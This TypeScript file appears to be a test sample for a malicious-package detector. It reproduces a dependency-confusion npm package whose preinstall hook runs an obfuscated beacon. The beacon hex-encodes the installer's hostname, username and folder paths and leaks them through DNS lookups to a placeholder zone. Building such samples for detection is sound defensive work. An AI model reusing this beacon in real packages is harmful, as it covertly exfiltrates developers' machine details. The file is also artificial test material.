import { defineAttack } from "../attack.ts";
import { commonScript } from "../guard.ts";
import { asCodes } from "../hiding.ts";
import { person } from "../publishing-ways.ts";
import type { Sample } from "../sample.ts";

/**
 * A wave of public packages with private names, 18 September 2026: `@tink/tink-link-core`, `@shared-web/*` and others at 9.9.10. Host,
 * user and folder leave as labels of names to be resolved, with texts as arrays of character codes.
 */
export const dependencyConfusion2026: Sample = defineAttack({
  id: "dependency-confusion-2026",
  title: "A private package's name at 9.9.10 tells who installed it by way of name servers",
  group: "new-name",
  trigger: "install",
  judged: [{ name: "@tink/tink-link-core", version: "9.9.10" }],
  now: "2026-09-18T11:00:00Z",
  createLines: () => [
    {
      name: "@tink/tink-link-core",
      manifest: {
        scripts: { preinstall: "node index.js" },
        repository: undefined,
        homepage: undefined,
        bugs: undefined,
        description: "",
        author: "",
      },
      files: [{ path: "index.js", content: beacon }],
      publisher: person("algamil7x", "algamil7x@mail.invalid"),
      releases: [["9.9.10", "2026-09-18T10:52:00Z", { hasCommit: false }]],
    },
  ],
});

const beacon = commonScript(`
const dns = require(${asCodes("dns")});
const os = require(${asCodes("os")});
const crypto = require(${asCodes("crypto")});
const zone = ${asCodes("tnk.oob.invalid")};
const id = crypto.randomBytes(4).toString("hex");
const parts = [os.hostname(), os.userInfo().username, process.cwd(), __dirname].map((part) => Buffer.from(part).toString("hex"));
parts.forEach((part, index) => {
  for (let at = 0; at < part.length; at += 60) {
    dns.lookup(id + "." + index + "." + at + "." + part.slice(at, at + 60) + "." + zone, () => {});
  }
});
`);
